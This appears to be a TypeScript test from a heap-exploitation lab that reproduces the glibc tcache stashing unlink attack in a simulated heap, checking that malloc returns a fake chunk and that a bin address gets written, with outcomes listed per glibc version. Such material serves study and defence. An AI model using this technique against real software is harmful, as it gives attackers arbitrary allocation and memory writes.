/**
 * tcache_stashing_unlink_attack: with 5 chunks in a tcache bin and 2 in the matching small
 * bin, overwrite the bk of the small bin's second chunk with a fake chunk whose bk is any
 * writable address. calloc (which skips the tcache up to glibc 2.40) takes a chunk from the
 * small bin, and glibc stashes the rest of the bin into the tcache without checking their
 * links: the fake chunk enters the tcache (so malloc returns it) and the bin's address is
 * written at fake->bk + 2 words. glibc 2.41's calloc takes from the tcache first, so the
 * small bin is never reached.
 */

import assert from "node:assert/strict";
import { type Lab, technique } from "./support.ts";

const REQUEST = 0x90;

technique({
  name: "tcache_stashing_unlink_attack",
  claim: "calloc stashes a fake chunk into the tcache and malloc returns it",
  outcomes: {
    "2.27": "works",
    "2.31": "works",
    "2.35": "works",
    "2.36": "works",
    "2.39": "works",
    "2.41": {
      fails: "calloc is served from the tcache",
      assertion: "malloc returns the fake chunk",
    },
  },
  run(lab: Lab) {
    const h = lab.heap, sz = lab.sz;
    const stack = lab.stackTarget() - 2 * sz; // the fake chunk
    lab.write(stack + 3 * sz, stack + 2 * sz); // fake->bk: writable
    const chunks = lab.mallocs(9, REQUEST);
    for (let i = 3; i < 9; i++) h.free(chunks[i]);
    h.free(chunks[1]); // the tcache bin is full
    h.free(chunks[0]); // to the unsorted bin
    h.free(chunks[2]);
    h.malloc(REQUEST + 0x10); // sorts both into the small bin
    h.malloc(REQUEST);
    h.malloc(REQUEST); // 5 left in the tcache
    assert.equal(h.bins().smallbins[0]?.chunks.length, 2);
    lab.vulnerability();
    lab.setWord(chunks[2], 1, stack); // chunk2->bk = fake chunk
    h.calloc(1, REQUEST);
    assert.equal(h.malloc(REQUEST), stack + 2 * sz, "malloc returns the fake chunk");
    // fake->bk->fd now holds the small bin's address (bin_at (av, idx), in main_arena).
    const align = lab.profile.mallocAlignment;
    const index = lab.chunkSize(REQUEST) / align + (align > 2 * sz ? 1 : 0); // smallbin_index
    const bin = h.mainArena + lab.profile.arena.bins + (index - 1) * 2 * sz - 2 * sz;
    assert.equal(lab.read(stack + 4 * sz), bin);
  },
});
